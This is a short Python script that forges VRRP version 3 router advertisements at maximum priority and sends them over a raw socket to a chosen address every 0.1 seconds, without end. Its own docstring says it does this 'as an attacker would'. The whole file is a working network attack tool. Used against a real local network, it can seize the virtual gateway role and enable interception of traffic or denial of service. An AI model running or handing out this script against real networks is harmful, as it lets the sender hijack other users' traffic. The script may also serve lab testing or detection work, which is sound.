"""Announces an address with VRRP version 3 (RFC 5798), again and again, as an attacker would.

    announcer.py SOURCE DESTINATION TTL ADDRESS
"""

import socket
import struct
import sys
import time

_VRRP, _ROUTER, _PRIORITY, _CENTISECONDS = 112, 15, 255, 20


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source: bytes, destination: bytes, ttl: int, address: bytes) -> bytes:
    def advertisement(check: int) -> bytes:
        return struct.pack("!BBBBHH", 0x31, _ROUTER, _PRIORITY, 1, _CENTISECONDS, check) + address

    length = len(advertisement(0))
    pseudo = source + destination + struct.pack("!BBH", 0, _VRRP, length)
    body = advertisement(checksum(pseudo + advertisement(0)))
    # The kernel fills in the identification and the checksum of the header.
    return struct.pack("!BBHHHBBH", 0x45, 0xC0, 20 + length, 0, 0, ttl, _VRRP, 0) + source + destination + body


def main() -> None:
    source, destination, ttl, address = sys.argv[1:]
    packed = packet(*map(socket.inet_aton, (source, destination)), int(ttl), socket.inet_aton(address))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        if destination.startswith("224."):
            sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(source))
        while True:
            sender.sendto(packed, (destination, 0))
            time.sleep(0.1)


if __name__ == "__main__":
    main()
